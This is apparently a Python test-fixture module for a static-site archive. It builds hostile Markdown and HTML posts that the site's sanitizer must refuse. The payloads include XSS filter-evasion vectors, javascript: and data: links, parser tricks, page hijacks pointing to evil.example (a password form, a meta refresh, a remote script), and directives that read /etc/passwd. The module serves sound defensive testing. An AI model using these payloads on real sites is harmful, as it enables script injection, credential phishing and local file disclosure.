"""Hostile and sloppy input for the archive, as files to drop into a test root.

Each hostile case is a page whose one payload must be refused; the payload
starts on line PAYLOAD_LINE of its post. The classes follow what attackers
use against sanitizers (OWASP's XSS filter evasion cheat sheet, html5sec.org,
DOMPurify's and html5lib's test vectors): script and event handlers, script
addresses, HTML parser tricks, page hijacks, Markdown links, file reads.
The tests build them all in one run (tests/test_hostile.py).
"""

from __future__ import annotations

HEADER = """---
title: "{title}"
author: A. Author
date: 2016-06-07
url: unknown
topics: [startups]
summary: "One sentence by the editors."
---

An ordinary first paragraph.

"""
PAYLOAD_LINE = HEADER.count("\n") + 1

RAW_HTML = {
    # script and event handlers
    "script": "<script>alert(1)</script>",
    "script-src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "body-onload": "<body onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "mixed-case-handler": '<a href="#x" OnClIcK="alert(1)">x</a>',
    "handler-after-newline": "<div\nonmouseover=alert(1)>x</div>",
    "handler-spaces": '<img src="x.png" onerror  =  "alert(1)">',
    "inline-handler-in-paragraph": 'Some <span onmouseover="alert(1)">words</span> here.',
    # addresses that run script or leave the web
    "javascript-href": '<a href="javascript:alert(1)">x</a>',
    "javascript-entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "javascript-spaces": '<a href="  javascript:alert(1)">x</a>',
    "javascript-tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript-newline-entity": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "data-href": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "vbscript-href": '<a href="vbscript:msgbox(1)">x</a>',
    "javascript-img": '<img src="javascript:alert(1)">',
    "javascript-cite": '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "file-href": '<a href="file:///etc/passwd">x</a>',
    # parser tricks: what a browser parses differently from a naive scanner
    "comment-ended-early": "<!--><img src=x onerror=alert(1)>-->",
    "comment-in-attribute": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "cdata-outside-svg": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "noscript-attribute": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "style-in-svg": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "mathml-mglyph": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="movie.swf">',
    "template": "<template><script>alert(1)</script></template>",
    "textarea": "<textarea><img src=x onerror=alert(1)></textarea>",
    "unterminated-tag": "<p>Text <img src=x onerror=alert(1)\n</p>",
    "duplicate-attribute": '<a href="https://example.org/" href="javascript:alert(1)">x</a>',
    "processing-instruction": "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
    # page hijacks
    "base": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style-import": "<style>@import url(https://evil.example/x.css);</style>",
    "form-password": (
        '<form action="https://evil.example/"><input type="password" name="p"></form>'
    ),
    "button-formaction": '<button formaction="https://evil.example/">Log in</button>',
    "overlay-style": (
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;'
        'background:white">Please log in</div>'
    ),
    "theme-class": '<div class="fixed-top w-100 h-100 bg-white">Please log in</div>',
    "dom-clobbering-id": '<a id="DOCUMENTATION_OPTIONS" href="https://example.org/">x</a>',
    "tracking-pixel": '<img src="https://evil.example/pixel.gif" width="1" height="1">',
}

MARKDOWN = {
    "md-javascript-link": "A [link](javascript:alert(1)) here.",
    "md-javascript-upper": "A [link](JAVASCRIPT:alert(1)) here.",
    "md-javascript-autolink": "An <javascript:alert(1)> autolink.",
    "md-javascript-reference": "A [link][r] here.\n\n[r]: javascript:alert(1)",
    "md-javascript-image": "An image ![x](javascript:alert(1)) here.",
    "md-data-link": "A [link](data:text/html,alert(1)) here.",
    "md-vbscript-link": "A [link](vbscript:msgbox) here.",
}

FILE_READS = {
    "include": "```{include} ../../../../../../etc/passwd\n```",
    "literalinclude": "```{literalinclude} /etc/passwd\n```",
    "raw-file": "```{raw} html\n:file: /etc/passwd\n```",
    "raw-url": "```{raw} html\n:url: https://evil.example/x.html\n```",
    "csv-table-file": "```{csv-table}\n:file: /etc/passwd\n```",
    "raw-latex": "```{raw} latex\n\\VerbatimInput{/etc/passwd}\n```",
    "image-outside": "![passwd](../../../../../../etc/passwd)",
    "figure-outside": "```{figure} /../../../../../../etc/hostname\n\nA caption.\n```",
    "download-outside": "Get [the file](../../../../../../etc/hostname) here.",
    "eval-rst-raw": "```{eval-rst}\n.. raw:: html\n\n   <script>alert(1)</script>\n```",
    "eval-rst-include": "```{eval-rst}\n.. include:: /etc/passwd\n```",
    # downloads from script, file and data addresses; images from another host
    # spelled with backslashes (a browser reads /\host and \\host as //host)
    "download-javascript": "Get {download}`the file <javascript:alert(1)>` here.",
    "download-file": "Get {download}`the file <file:///etc/passwd>` here.",
    "download-data": "Get {download}`the file <data:text/html,alert(1)>` here.",
    "img-backslash-host": '<img src="/\\evil.example/pixel.gif" alt="x">',
    "img-double-backslash": '<img src="\\\\evil.example\\pixel.gif" alt="x">',
}

#: what writes into a page's <head> (a refresh there sends every reader elsewhere)
HEAD = {
    "eval-rst-meta-refresh": (
        "```{eval-rst}\n.. meta::\n   :http-equiv=refresh: 0; url=https://evil.example/\n```"
    ),
    "eval-rst-meta-name": "```{eval-rst}\n.. meta::\n   :description: Not the editors' words\n```",
}

#: not markup at all for MyST (CommonMark reads no tag there): they must stay
#: text, shown as typed
AS_TEXT = {
    "svg-slash-onload": "<svg/onload=alert(1)>",
    "unterminated-inline": "A tag that never ends <img src=x onerror=alert(1)",
}

#: every hostile post: name -> payload (the post is posts/hostile-<name>.md)
PAYLOADS = {**RAW_HTML, **MARKDOWN, **FILE_READS, **HEAD}


def hostile_post(name: str) -> str:
    return HEADER.format(title=f"Hostile {name}") + PAYLOADS[name] + "\n"


def payload_lines(name: str) -> range:
    """The lines of the post that hold the payload."""
    return range(PAYLOAD_LINE, PAYLOAD_LINE + PAYLOADS[name].count("\n") + 1)


#: pages that are not posts get the same checks
EDITORIAL = {
    # (path, text, line of the payload)
    "posts/index.md": ("# Posts\n\nAll the posts.\n\n<script>alert(1)</script>\n", 5),
    "orphan.md": (
        '---\norphan: true\n---\n\n# An orphan page\n\n<img src=x onerror="alert(1)">\n',
        7,
    ),
}

#: allowed but tricky: a passing page, which must not run anything either
TRICKY_BUT_FINE = (
    HEADER.format(title="Tricky but fine")
    + """\
Text with <b>bold</b>, <i>italic</i>, <a href="https://example.org/" title="a &quot;title&quot;">a link</a>,
escaped markup: &lt;script&gt;alert(1)&lt;/script&gt; and \\<img src=x onerror=alert(1)>,
and code: `<script>alert(1)</script>`.

<details><summary>More</summary>
<p style="text-align: center; font-style: italic">Hidden <sup>text</sup>.</p>
</details>

<table><tr><th scope="col">A</th><td colspan="2">B</td></tr></table>

```html
<script>alert(1)</script>
<img src=x onerror=alert(1)>
```

A remote image: ![A photo from the original blog](https://example.org/photo.jpg)

A [javascript:alert(1)](https://example.org/) link whose text looks like a script address.

Math, which the site shows as its source (no script from another site): {math}`E = mc^2`.

A post about attacks may name them: attackers write javascript:alert(1) where a link goes (see
javascript:void(0), or <b>JavaScript:</b> in capitals), and data: addresses too; a lone
<javascript: is only text, and so is [javascript: the scheme].

<p>The <code>javascript:</code> scheme in <code>&lt;a href="javascript:x"&gt;</code>.</p>
"""
)
